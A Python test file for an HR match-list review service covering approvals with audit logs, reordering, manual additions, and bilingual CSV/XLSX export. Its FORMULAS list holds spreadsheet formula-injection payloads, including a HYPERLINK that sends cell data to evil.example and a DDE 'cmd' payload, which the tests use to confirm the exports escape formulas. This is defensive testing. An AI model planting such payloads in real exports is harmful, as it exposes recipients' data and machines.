"""HR's match-list review: seeding, decisions with audit, order, hand additions, export."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

from fastapi.testclient import TestClient
from openpyxl import load_workbook

from app.runtime import Runtime
from models import Account, Role
from tests.conftest import ClientAs, Factory


def _world(make: Factory, client_as: ClientAs) -> tuple[int, list[int], TestClient, TestClient]:
    ent = make.enterprise()["id"]
    people = [
        make.postdoc(
            research_interests="焊缝缺陷 机器视觉 检测",
            publications=[{"title": "焊缝缺陷视觉检测"}],
            station_id=make.station(name="哈尔滨工程大学博士后科研流动站")["id"],
        )["id"],
        make.postdoc(research_interests="焊缝 冶金 材料")["id"],
        make.postdoc(research_interests="海洋牧场 水产养殖")["id"],
    ]
    challenge = make.challenge(ent, title="焊缝检测", description="船体焊缝缺陷的机器视觉检测")["id"]
    hr = client_as(Role.hr)
    enterprise = client_as(Role.enterprise, enterprise_id=ent)
    assert hr.get(f"/challenges/{challenge}/match-list").json()["items"] == []  # reading never seeds
    seeded = hr.post(f"/challenges/{challenge}/match-list/seed")
    assert seeded.status_code == 200 and seeded.json()["items"]
    return challenge, people, hr, enterprise


def test_hr_reviews_and_enterprise_sees_the_approved_list(make: Factory, client_as: ClientAs) -> None:
    challenge, people, hr, enterprise = _world(make, client_as)
    postdoc = client_as(Role.postdoc, postdoc_id=people[0])
    listed = hr.get(f"/challenges/{challenge}/match-list").json()["items"]
    assert [e["postdoc"]["id"] for e in listed][:2] == people[:2]
    assert [e["position"] for e in listed] == list(range(1, len(listed) + 1))
    assert listed[0]["evidence"] and listed[0]["status"] == "candidate"
    first, second = listed[0]["id"], listed[1]["id"]

    assert enterprise.get(f"/challenges/{challenge}/match-list").json()["items"] == []
    r = hr.patch(f"/match-entries/{first}", json={"status": "shortlisted", "note": "经验匹配"})
    assert r.status_code == 200 and r.json()["note"] == "经验匹配"
    hr.patch(f"/match-entries/{first}", json={"status": "approved", "note": "推荐给企业"})
    hr.patch(f"/match-entries/{second}", json={"status": "rejected", "note": "方向不符"})
    approved = enterprise.get(f"/challenges/{challenge}/match-list").json()["items"]
    assert [(e["postdoc"]["id"], e["status"], e["note"]) for e in approved] == [
        (people[0], "approved", "推荐给企业")
    ]

    log = hr.get(f"/challenges/{challenge}/audit").json()
    decisions = [
        (e["action"], e["object_id"], e["before"]["status"], e["after"]["status"])
        for e in log
        if e["action"] == "decide"
    ]
    assert decisions == [
        ("decide", second, "candidate", "rejected"),
        ("decide", first, "shortlisted", "approved"),
        ("decide", first, "candidate", "shortlisted"),
    ]
    me = hr.get("/accounts/me").json()
    assert {e["account_id"] for e in log if e["action"] == "decide"} == {me["id"]}
    # who and what by name too: in Chinese by default, in English when asked
    assert {(e["actor_name"], e["action_name"]) for e in log if e["action"] == "decide"} == {
        (me["name"], "审核决定")
    }
    english = hr.get(f"/challenges/{challenge}/audit?lang=en").json()
    assert [e["action_name"] for e in english if e["action"] == "decide"] == ["decision"] * 3
    told_en = hr.get(f"/challenges/{challenge}/audit", headers={"Accept-Language": "en-GB,en;q=0.8"}).json()
    assert [e["action_name"] for e in told_en] == [e["action_name"] for e in english]
    kinds = [n["kind"] for n in postdoc.get("/notifications").json()]
    assert kinds == ["approved", "shortlisted"]  # newest first; the rejected one hears nothing
    told = [n["kind"] for n in enterprise.get("/notifications").json()]
    assert told == ["list_approved"]


def test_reorder_and_add_by_hand(make: Factory, client_as: ClientAs) -> None:
    challenge, people, hr, _ = _world(make, client_as)
    ids = [e["id"] for e in hr.get(f"/challenges/{challenge}/match-list").json()["items"]]
    assert (
        hr.put(f"/challenges/{challenge}/match-list/order", json={"entry_ids": ids[::-1]}).status_code == 204
    )
    assert [e["id"] for e in hr.get(f"/challenges/{challenge}/match-list").json()["items"]] == ids[::-1]
    bad = hr.put(f"/challenges/{challenge}/match-list/order", json={"entry_ids": ids[:1]})
    assert bad.status_code == 422 and bad.json()["field"] == "entry_ids"

    extra = make.postdoc(research_interests="完全无关的方向 古典文学")["id"]
    listed_ids = [e["postdoc"]["id"] for e in hr.get(f"/challenges/{challenge}/match-list").json()["items"]]
    assert extra not in listed_ids  # the list was seeded before this person existed
    added = hr.post(f"/challenges/{challenge}/match-list", json={"postdoc_id": extra, "note": "HR推荐"})
    assert added.status_code == 201
    assert added.json()["added_by_hand"] is True and added.json()["position"] == len(listed_ids) + 1
    again = hr.post(f"/challenges/{challenge}/match-list", json={"postdoc_id": people[0]})
    assert again.status_code == 409 and again.json()["field"] == "postdoc_id"
    missing = hr.post(f"/challenges/{challenge}/match-list", json={"postdoc_id": 999999})
    assert missing.status_code == 422


def _today() -> set[str]:
    zone = ZoneInfo("Asia/Shanghai")
    return {
        datetime.now(zone).date().isoformat(),
        (datetime.now(zone) - timedelta(minutes=1)).date().isoformat(),
    }


def _cjk_width(text: str) -> int:
    return sum(2 if "\u4e00" <= ch <= "\u9fff" else 1 for ch in text)


def _csv(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())  # the BOM Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_export_csv_in_chinese_and_english(make: Factory, client_as: ClientAs) -> None:
    challenge, _, hr, _ = _world(make, client_as)
    first = hr.get(f"/challenges/{challenge}/match-list").json()["items"][0]
    hr.patch(f"/match-entries/{first['id']}", json={"status": "approved", "note": "好"})

    r = hr.get(f"/challenges/{challenge}/match-list/export?format=csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert re.fullmatch(
        rf'attachment; filename="challenge-{challenge}-match-list-\d{{8}}\.csv"',
        r.headers["content-disposition"],
    )
    rows = _csv(r.content)
    assert len(rows[0]) == 1 and rows[0][0].startswith("焊缝检测 · 匹配名单 · 导出日期：")
    assert rows[0][0][-10:] in _today()
    assert rows[1] == ["序号", "姓名", "单位", "学科", "得分", "状态", "备注", "证据"]
    assert rows[2][:4] == [
        "1",
        first["postdoc"]["name"],
        first["postdoc"]["station"]["name"],
        "控制科学与工程",
    ]
    assert rows[2][5:7] == ["已批准", "好"]
    assert rows[2][7] == "研究方向（检测、焊缝缺陷、机器视觉）；焊缝缺陷视觉检测（检测、焊缝缺陷、视觉）"
    assert {row[5] for row in rows[3:]} == {"候选"}
    assert len(rows) == 2 + len(hr.get(f"/challenges/{challenge}/match-list").json()["items"])

    en = _csv(hr.get(f"/challenges/{challenge}/match-list/export?format=csv&lang=en").content)
    assert en[0][0].startswith("焊缝检测 · Match list · exported ")
    assert en[1] == ["No.", "Name", "Station", "Discipline", "Score", "Status", "Note", "Evidence"]
    assert en[2][5] == "Approved"
    assert (
        en[2][7] == "Research interests (检测, 焊缝缺陷, 机器视觉); 焊缝缺陷视觉检测 (检测, 焊缝缺陷, 视觉)"
    )
    assert {row[5] for row in en[3:]} == {"Candidate"}


def test_export_xlsx_in_chinese_and_english(make: Factory, client_as: ClientAs) -> None:
    challenge, _, hr, enterprise = _world(make, client_as)
    first = hr.get(f"/challenges/{challenge}/match-list").json()["items"][0]
    hr.patch(f"/match-entries/{first['id']}", json={"status": "approved", "note": "好"})

    r = enterprise.get(f"/challenges/{challenge}/match-list/export?format=xlsx")
    assert r.status_code == 200
    book = load_workbook(io.BytesIO(r.content))
    sheet = book.active
    assert sheet is not None and sheet.title == "已批准名单"
    values = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert len(values) == 3  # heading, headers, the one approved entry
    assert values[0][0].startswith("焊缝检测 · 已批准名单 · 导出日期：") and values[0][0][-10:] in _today()
    assert [str(c) for c in sheet.merged_cells.ranges] == ["A1:H1"]
    assert values[1] == ["序号", "姓名", "单位", "学科", "得分", "状态", "备注", "证据"]
    assert values[2][:2] == [1, first["postdoc"]["name"]] and values[2][5:7] == ["已批准", "好"]
    assert isinstance(values[2][4], float) and sheet["E3"].number_format == "0.000"
    assert sheet.freeze_panes == "A3"
    assert sheet["A2"].font.bold and sheet["A1"].font.bold
    widths = {col: sheet.column_dimensions[col].width for col in "ABCDEFGH"}
    assert widths["A"] == 6  # 序号 and a one-digit number: the minimum
    assert widths["B"] == _cjk_width(first["postdoc"]["name"]) + 2  # a CJK character counts 2
    assert widths["C"] == _cjk_width("哈尔滨工程大学博士后科研流动站") + 2
    assert 20 < widths["H"] <= 48  # the evidence is long but capped
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)

    en = load_workbook(
        io.BytesIO(hr.get(f"/challenges/{challenge}/match-list/export?format=xlsx&lang=en").content)
    )
    sheet = en.active
    assert sheet is not None and sheet.title == "Match list" and sheet.freeze_panes == "A3"
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0][0].startswith("焊缝检测 · Match list · exported ")
    assert rows[1] == ["No.", "Name", "Station", "Discipline", "Score", "Status", "Note", "Evidence"]
    assert [row[5] for row in rows[2:]] == ["Approved"] + ["Candidate"] * (len(rows) - 3)


def test_export_language_follows_the_account(make: Factory, client_as: ClientAs, runtime: Runtime) -> None:
    challenge, _, hr, _ = _world(make, client_as)
    me = hr.get("/accounts/me").json()["id"]
    with runtime.session() as session:
        session.get(Account, me).language = "en"  # type: ignore[union-attr]
        session.commit()
    assert _csv(hr.get(f"/challenges/{challenge}/match-list/export").content)[1][0] == "No."
    assert _csv(hr.get(f"/challenges/{challenge}/match-list/export?lang=zh").content)[1][0] == "序号"


FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&D3,"查看详情")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def _formula_world(make: Factory, client_as: ClientAs) -> tuple[int, TestClient]:
    ent = make.enterprise()["id"]
    for n, formula in enumerate(FORMULAS):
        make.postdoc(
            name=formula.strip() or f"p{n}",
            discipline=formula.strip(),
            research_interests="焊缝缺陷 机器视觉 检测",
        )
    challenge = make.challenge(ent, title="焊缝检测", description="船体焊缝缺陷的机器视觉检测")["id"]
    hr = client_as(Role.hr)
    hr.post(f"/challenges/{challenge}/match-list/seed")
    items = hr.get(f"/challenges/{challenge}/match-list", params={"limit": 50}).json()["items"]
    for item, formula in zip(items, FORMULAS, strict=False):
        r = hr.patch(f"/match-entries/{item['id']}", json={"status": "approved", "note": formula})
        assert r.status_code == 200, r.text
    return challenge, hr


def _dangerous(value: str) -> bool:
    return value[:1] in set("=+-@\t\r＝＋－＠")


def test_csv_export_never_holds_a_formula(make: Factory, client_as: ClientAs) -> None:
    challenge, hr = _formula_world(make, client_as)
    r = hr.get(f"/challenges/{challenge}/match-list/export?format=csv")
    rows = _csv(r.content)
    cells = [cell for row in rows[2:] for cell in [row[1], row[3], row[6]]]
    assert len(cells) == 3 * len(FORMULAS)
    assert [c for c in cells if _dangerous(c)] == []
    names = {row[1] for row in rows[2:]}
    assert "'" + FORMULAS[0] in names  # escaped, not dropped: the reader still sees the text


def test_xlsx_export_never_holds_a_formula(make: Factory, client_as: ClientAs) -> None:
    challenge, hr = _formula_world(make, client_as)
    r = hr.get(f"/challenges/{challenge}/match-list/export?format=xlsx")
    sheet = load_workbook(io.BytesIO(r.content)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows(min_row=3) for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c for c in cells if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in texts)
    assert [c.value for c in texts if _dangerous(c.value)] == []
    assert "'" + FORMULAS[0] in {c.value for c in texts}


class RecordingSender:
    """A Sender that keeps what it was given (stands in for an email or webhook backend)."""

    def __init__(self) -> None:
        self.sent: list[tuple[str, str]] = []

    def send(self, account, notification) -> None:  # type: ignore[no-untyped-def]
        self.sent.append((account.email, notification.kind))


def test_notifications_go_through_the_installed_sender(make: Factory, client_as: ClientAs, runtime) -> None:  # type: ignore[no-untyped-def]
    from app.services.accounts import create_account
    from app.services.notifications import LogSender, set_sender

    challenge, people, hr, _ = _world(make, client_as)
    with runtime.session() as session:
        create_account(session, email="first@example.org", name="p", role=Role.postdoc, postdoc_id=people[0])
    sender = RecordingSender()
    previous = set_sender(sender)
    try:
        first = hr.get(f"/challenges/{challenge}/match-list").json()["items"][0]
        hr.patch(f"/match-entries/{first['id']}", json={"status": "shortlisted"})
        hr.patch(f"/match-entries/{first['id']}", json={"status": "shortlisted", "note": "again"})
    finally:
        assert isinstance(set_sender(previous), RecordingSender)
    assert isinstance(previous, LogSender)
    assert sender.sent == [("first@example.org", "shortlisted")]  # once, not on the repeat
